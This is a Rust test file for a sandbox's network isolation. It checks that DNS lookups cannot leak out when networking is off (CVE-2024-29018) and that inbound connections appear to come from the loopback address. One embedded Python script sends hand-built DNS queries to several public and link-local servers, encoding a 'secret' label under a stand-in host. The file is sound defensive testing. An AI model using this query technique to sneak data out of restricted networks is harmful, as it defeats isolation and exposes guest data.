//! Names that are asked for where there is no network, and connections that come in.

use cabana_sandbox::NetworkPolicy;
use cabana_testkit::world::in_world;
use tokio::io::AsyncReadExt;

use super::stage::python;
use crate::{
    inside::{named, until},
    network::{SITE_ADDRESS, sandbox},
};

/// Asks for a name in all ways: by the resolver, and by datagrams and streams to servers of the attacker's choice.
const ASK: &str = "import os, socket, struct, sys
name = sys.argv[1]
try: socket.getaddrinfo(name, 80); print('resolved')
except OSError: pass
question = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0\\0\\1\\0\\1'
for server in ['127.0.0.1', '127.0.0.53', '8.8.8.8', '10.77.0.1', '169.254.169.253']:
    for kind in [socket.SOCK_DGRAM, socket.SOCK_STREAM]:
        one = socket.socket(socket.AF_INET, kind); one.settimeout(0.2)
        try:
            one.connect((server, 53))
            one.send(question if kind == socket.SOCK_DGRAM else struct.pack('>H', len(question)) + question)
            one.recv(512)
        except OSError: pass";

/// CVE-2024-29018: a network without a way out asked its names outside, and so had one.
#[test]
fn dns_queries_do_not_leave_when_the_network_is_off() {
    in_world(async |world| {
        world.site("leak.example", &[SITE_ADDRESS]);
        let ask = |name: &str| {
            let mut spec = python(ASK);
            if let cabana_sandbox::Command::Argv(argv) = &mut spec.command {
                argv.push(name.to_owned());
            }
            spec
        };
        let open = sandbox(NetworkPolicy::Public).await;
        assert_eq!(open.command("user", ask("leak.example")).await.ok(), "resolved");
        assert!(world.resolved().iter().any(|name| name.contains("leak.example")), "the world is asked");
        open.end().await;
        let before = world.resolved().len();
        let closed = sandbox(NetworkPolicy::Off).await;
        for user in ["root", "user"] {
            for name in ["leak.example", "secret-of-the-guest.leak.example"] {
                assert_eq!(closed.command(user, ask(name)).await.ok(), "", "{name} as {user}");
            }
        }
        assert_eq!(world.resolved().len(), before, "{:?}", world.resolved());
        closed.end().await;
    });
}

/// CVE-2021-20199: as with rootless Podman, a service inside sees who comes through the server as coming from its own loopback,
/// and never an address of the host.
#[test]
fn connections_to_a_port_come_from_the_sandbox_loopback() {
    in_world(async |_| {
        let inside = sandbox(NetworkPolicy::Public).await;
        let serve = "import socket
one = socket.create_server(('', 8765)); open('/tmp/up', 'w').close()
peer, address = one.accept(); peer.sendall(address[0].encode()); peer.close()";
        let mut spec = python(serve);
        spec.user = Some(named("user"));
        let _service = inside.sandbox.exec(spec).await.unwrap();
        until("it listens", async || inside.user("test -e /tmp/up && echo up").await.out.contains("up")).await;
        let mut came = String::new();
        inside.sandbox.connect(8765).await.unwrap().read_to_string(&mut came).await.unwrap();
        assert_eq!(came, "127.0.0.1");
        inside.end().await;
    });
}
